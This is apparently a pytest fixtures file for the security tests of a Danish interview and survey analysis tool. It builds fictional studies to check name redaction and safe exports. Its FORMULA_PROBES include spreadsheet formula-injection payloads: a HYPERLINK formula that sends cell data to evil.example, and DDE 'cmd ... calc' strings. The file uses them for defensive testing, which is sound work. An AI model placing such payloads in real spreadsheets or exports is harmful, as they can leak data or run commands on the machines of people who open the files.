"""Fixtures of the attack suite: a small study with named speakers and municipalities for the
review app, and the demo study with probes run through the real CLI once per session."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import DATA, REPO

PASSWORD = "korrekt-hest-batteri"

# What the review study's reviewers without rights must never see.
SPEAKER_NAMES = ("Henrik", "Anne", "Birgitte", "Mads")
MUNICIPALITIES = ("Aarhus", "Ballerup", "Vejle", "Lemvig", "Gentofte", "Odense")
INTERVIEW_A = (
    "Samtale med direktøren\n"
    "Anne: Hvordan arbejder I på tværs?\n"
    "Henrik: Her i Ballerup taler vores IT-systemer ikke sammen, og jobcentret sidder for sig selv.\n"
    "Anne: Og økonomien?\n"
    "Henrik: Økonomien ligger i søjlerne. Det er det store problem.\n"
)
INTERVIEW_B = (
    "Interview\n"
    "Mads: Hvad er det sværeste?\n"
    "Birgitte: Jobcentret og familieafdelingen har hver deres IT-systemer, og de taler ikke sammen.\n"
    "Mads: Tak.\n"
    "Birgitte: Økonomien ligger i søjlerne hos os i Aarhus også.\n"
)
SURVEY = [
    ("R001", "Vejle", "Region Syddanmark", "Større kommune", "Kommunaldirektør",
     "Vores IT-systemer taler ikke sammen, og økonomien ligger i søjlerne."),
    ("R002", "Lemvig", "Region Midtjylland", "Mindre kommune", "Direktør",
     "Jobcentret er med i teamet, men IT-systemerne taler ikke sammen."),
    ("R003", "Gentofte", "Region Hovedstaden", "Større kommune", "Socialchef Lone Madsen",
     "Økonomien ligger i søjlerne, og jobcentret betaler."),
    ("R004", "Odense", "Region Syddanmark", "Større kommune", "Direktør i Gentofte",
     "Vi mangler IT-systemer, der taler sammen med jobcentret."),
    ("R005", "Aarhus", "Region Midtjylland", "Større kommune", "Kommunaldirektør",
     "Jobcentret har sit eget budget, og økonomien ligger i søjlerne."),
]


def review_settings():
    """The fast patterns-only recogniser (no statistical NER model), as the review tests use; the app
    in English, the language these tests' assertions are written in (Danish is the default)."""
    from hoi_nlp.settings import Settings

    return Settings(pseudonymize={"recogniser": "patterns"}, review={"language": "en"})


def write_review_study(folder: Path) -> Path:
    """A survey (R001-R005, municipality and free-text roles) and two interviews whose speakers are
    named (one in a file named after its municipality and respondent, without an interview id)."""
    (folder / "survey").mkdir(parents=True)
    shutil.copy(DATA / "study_small" / "survey" / "schema.yaml", folder / "survey" / "schema.yaml")
    with open(folder / "survey" / "export.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(["Respondent-ID", "Kommune", "Region", "Størrelsesgruppe", "Respondentrolle",
                         "1.2_kommentar", "4.2a_indsats1", "7_afsluttende_kommentar"])
        for rid, muni, region, size, role, text in SURVEY:
            writer.writerow([rid, muni, region, size, role, text, "", ""])
    transcripts = folder / "transcripts"
    transcripts.mkdir()
    (transcripts / "interview_Ballerup_Henrik.txt").write_text(INTERVIEW_A, encoding="utf-8")
    (transcripts / "interview_b.txt").write_text(INTERVIEW_B, encoding="utf-8")
    (transcripts / "metadata.csv").write_text(
        "file,interview_id,municipality,region,size_group,role,date,interviewer,interviewer_speakers,"
        "respondent_speakers\n"
        "interview_Ballerup_Henrik.txt,,Ballerup,Region Hovedstaden,Større kommune,Kommunaldirektør,"
        "2024-04-02,Anne Kjær,Anne,Henrik\n"
        "interview_b.txt,int-b,Aarhus,Region Midtjylland,Større kommune,Direktør for social og beskæftigelse,"
        "2024-04-04,Mads Holm,Mads,Birgitte\n",
        encoding="utf-8",
    )
    return folder


@pytest.fixture(scope="session")
def security_codebook():
    from hoi_nlp.codebook import load_codebook

    return load_codebook(DATA / "codebooks" / "small.yaml")


@pytest.fixture(scope="session")
def built_review_study(tmp_path_factory, security_codebook) -> Path:
    """The review study ingested, segmented, coded (rule coder) and redacted for display."""
    from sqlalchemy import text

    from hoi_nlp.coding.rules import RuleCoder
    from hoi_nlp.review.masking import PrivacyView
    from hoi_nlp.settings import Settings
    from hoi_nlp.stages.study import code_stage, ingest_stage, segment_stage
    from hoi_nlp.store import Workspace

    root = tmp_path_factory.mktemp("security-review")
    study = write_review_study(root / "study")
    workspace = Workspace.open(root / "ws", study="security")
    summary = ingest_stage(study, workspace)
    assert not summary["errors"], summary["errors"]
    segment_stage(workspace, Settings())
    code_stage(workspace, security_codebook, Settings(), coder=RuleCoder(security_codebook))
    PrivacyView(workspace, review_settings()).prepare_all()
    with workspace.engine.begin() as conn:
        conn.execute(text("PRAGMA wal_checkpoint(TRUNCATE)"))
    workspace.engine.dispose()
    return workspace.root


@pytest.fixture
def review_ws(built_review_study, tmp_path):
    """A private copy of the review study's workspace."""
    from hoi_nlp.store import Workspace

    target = tmp_path / "ws"
    shutil.copytree(built_review_study, target)
    return Workspace.open(target, study="security", create=False)


def make_client(workspace, codebook, *, login: bool = True, base_url: str = "http://127.0.0.1", settings=None,
                **options):
    """The review app over HTTP (FastAPI TestClient), by default with the patterns recogniser."""
    from fastapi.testclient import TestClient

    from hoi_nlp.review.app import AppConfig, create_app
    from hoi_nlp.review.masking import PrivacyView

    settings = settings or review_settings()
    config = AppConfig(workspace=workspace, codebook=codebook, settings=settings, login=login,
                       active_learning=False, privacy=PrivacyView(workspace, settings), local_user="local",
                       **options)
    return TestClient(create_app(config), base_url=base_url, follow_redirects=False)


def login(client, username: str, password: str = PASSWORD) -> str:
    """Log in; returns the session's CSRF token."""
    from tests.review.conftest import csrf_of

    response = client.post("/login", data={"username": username, "password": password, "next": "/queue"})
    assert response.status_code == 303, response.text
    return csrf_of(client.get("/queue").text)


# ---------------------------------------------------------------- the probe study (real CLI)

PROBE_STRINGS = ("Ballerup", "Henrik", "Lone Madsen", "Lone", "Madsen", "Gentofte", "20 30 40 50",
                 "mette(at)vejle.dk", "mette", "vejle.dk")
FORMULA_PROBES = {
    2: "Ring på 20 30 40 50 eller skriv til mette(at)vejle.dk, så fortæller vi mere om IT-systemerne.",
    3: '=HYPERLINK("http://evil.example/?x="&A1,"Klik her") IT-systemerne taler ikke sammen',
    4: "+cmd|' /C calc'!A0 og vores IT-systemer taler ikke sammen",
    5: "@SUM(1+1)*cmd|' /C calc'!A0 økonomien ligger i søjlerne",
    6: "-2+3+cmd|' /C calc'!A0 jobcentret er med",
    7: "\t=1+1 økonomien ligger i søjlerne",
}
PROBE_SURVEY_ROWS = 10  # the first respondents of the demo survey (a smaller run)
# Long names inside a survey answer and an interview turn: their placeholders are much shorter, so an
# offset or id into the original text would tell their lengths (test_probe_study.py).
LONG_PERSON, LONG_MUNICIPALITY = "Karl-Christian Vestergaard-Frederiksen", "Ringkøbing-Skjern Kommune"
LONG_NAMES_TEXT = f"Jeg talte med {LONG_PERSON} fra {LONG_MUNICIPALITY} om det, og det hjalp os meget."
LONG_NAMES_ANSWER = (4, "1.2_kommentar")  # (row, column) of the survey answer that names them
PROBE_INTERVIEWS = ("interview_06.docx", "interview_07.docx", "interview_08.docx")


def hoi(*args: str, env: dict[str, str] | None = None, timeout: int = 900, stdin: str | None = None):
    """The real CLI as a subprocess, in a user's environment (Prefect's home in the workspace, not the
    one tests/flows sets for the test process)."""
    environment = {k: v for k, v in os.environ.items() if k not in ("PREFECT_HOME", "PREFECT_API_URL")}
    return subprocess.run([str(Path(sys.executable).parent / "hoi"), *args], capture_output=True, text=True,
                          input=stdin, timeout=timeout, env={**environment, **(env or {})}, cwd=REPO)


def write_probe_study(target: Path) -> Path:
    """The demo study (a part of it, for time) plus probes: names in a transcript's file name and in
    free-text roles, odd contact forms and formula-like answers."""
    import openpyxl

    demo = REPO / "corpora" / "demo"
    (target / "transcripts").mkdir(parents=True)
    (target / "survey").mkdir()
    shutil.copy(demo / "survey" / "schema.yaml", target / "survey" / "schema.yaml")
    rows = list(csv.DictReader((demo / "transcripts" / "metadata.csv").open(encoding="utf-8")))
    rows = [r for r in rows if r["file"] in PROBE_INTERVIEWS]
    for row in rows:
        source = demo / "transcripts" / row["file"]
        if row["file"] == "interview_06.docx":  # Ballerup, respondent Henrik, interviewer Anne
            row["file"], row["interview_id"] = "interview_Ballerup_Henrik.docx", ""
        elif row["file"] == "interview_07.docx":
            row["role"] = "Socialchef Lone Madsen"
            shutil.copy(source, target / "transcripts" / row["file"])
            _name_in_a_turn(target / "transcripts" / row["file"])
            continue
        elif row["file"] == "interview_08.docx":
            row["role"] = "Direktør i Gentofte"
        shutil.copy(source, target / "transcripts" / row["file"])
    with open(target / "transcripts" / "metadata.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    book = openpyxl.load_workbook(demo / "survey" / "hoi_kommuneundersoegelse_2024.xlsx")
    sheet = book.active
    sheet.delete_rows(PROBE_SURVEY_ROWS + 2, sheet.max_row)
    column = {cell.value: cell.column for cell in sheet[1]}
    for row, text in FORMULA_PROBES.items():
        cell = sheet.cell(row=row, column=column["7_afsluttende_kommentar"])
        cell.value, cell.data_type = text, "s"  # a text cell, not a formula openpyxl would write
    answer = sheet.cell(row=LONG_NAMES_ANSWER[0], column=column[LONG_NAMES_ANSWER[1]])
    answer.value = f"{LONG_NAMES_TEXT} {answer.value}"
    sheet.cell(row=9, column=column["Respondentrolle"], value="Socialchef Lone Madsen")
    sheet.cell(row=10, column=column["Respondentrolle"], value="Direktør i Gentofte")
    book.save(target / "survey" / "hoi_kommuneundersoegelse_2024.xlsx")
    return target


def _name_in_a_turn(path: Path) -> None:
    """The long names at the start of the director's first answer in the interview at ``path``."""
    import docx

    document = docx.Document(str(path))
    turn = next(p for p in document.paragraphs if p.text.startswith("Birgitte: "))
    first = turn.runs[0]
    first.text = first.text.replace("Birgitte: ", f"Birgitte: {LONG_NAMES_TEXT} ", 1)
    document.save(str(path))


@pytest.fixture(scope="session")
def probe_run(tmp_path_factory):
    """``hoi run`` on the probe study, then ``hoi export`` in every format (both CSV dialects).

    Returns (study folder, workspace, {name: CompletedProcess}, export folders).
    """
    root = tmp_path_factory.mktemp("probe")
    study = write_probe_study(root / "probe")
    workspace = root / "ws"
    export = study / "survey" / "hoi_kommuneundersoegelse_2024.xlsx"
    runs = {"survey-schema": hoi("survey-schema", str(export), "--output", str(root / "draft_schema.yaml"))}
    assert runs["survey-schema"].returncode == 0, runs["survey-schema"].stderr[-3000:]
    runs["run"] = hoi("run", str(study), "--workspace", str(workspace))
    assert runs["run"].returncode == 0, runs["run"].stderr[-3000:]
    everything = root / "every-format"
    formats = [arg for fmt in ("xlsx", "parquet", "csv", "md", "docx", "html", "qdpx", "qdc")
               for arg in ("--format", fmt)]
    runs["export"] = hoi("export", str(workspace), "--output", str(everything), *formats)
    assert runs["export"].returncode == 0, runs["export"].stderr[-3000:]
    danish = root / "excel-da"
    runs["export-da"] = hoi("export", str(workspace), "--output", str(danish), "--format", "csv",
                            "--csv-dialect", "excel-da")
    assert runs["export-da"].returncode == 0, runs["export-da"].stderr[-3000:]
    return study, workspace, runs, [workspace / "exports", everything, danish]
